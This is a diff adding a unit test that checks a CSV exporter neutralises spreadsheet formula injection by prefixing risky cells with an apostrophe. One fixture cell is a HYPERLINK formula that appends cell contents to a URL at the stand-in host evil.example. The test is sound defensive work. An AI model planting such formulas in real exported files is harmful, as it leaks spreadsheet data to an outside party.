@@ -104,6 +104,21 @@ describe('rendering', () => {
     expect(toCsv(['a', 'b'], [{ a: 1, b: true, c: 'not a column' }, { b: 'x' }])).toBe('a,b\n1,true\n,x\n');
   });
 
+  it('CSV: text a spreadsheet would run as a formula is written as text (a leading apostrophe); numbers and JSON cells are as they are', () => {
+    const rows = [
+      { a: '=HYPERLINK("http://evil.example/?"&A1,"click")', b: -5 },
+      { a: '+1', b: '@SUM(A1)' },
+      { a: '-x', b: '\tTAB' },
+      { a: 'plain = text', b: { k: '=x' } },
+    ];
+    expect(parseCsv(toCsv(['a', 'b'], rows)).slice(1)).toEqual([
+      [`'=HYPERLINK("http://evil.example/?"&A1,"click")`, '-5'],
+      ["'+1", "'@SUM(A1)"],
+      ["'-x", "'\tTAB"],
+      ['plain = text', '{"k":"=x"}'],
+    ]);
+  });
+
   it('health: 200 whether ok or degraded; 503 when storage cannot be read', () => {
     const health: Health = { status: 'degraded', checkedAt: '2024-05-25T00:00:00.000Z', containers: [], stuck: [] };
     expect(renderHealth(health)).toEqual({
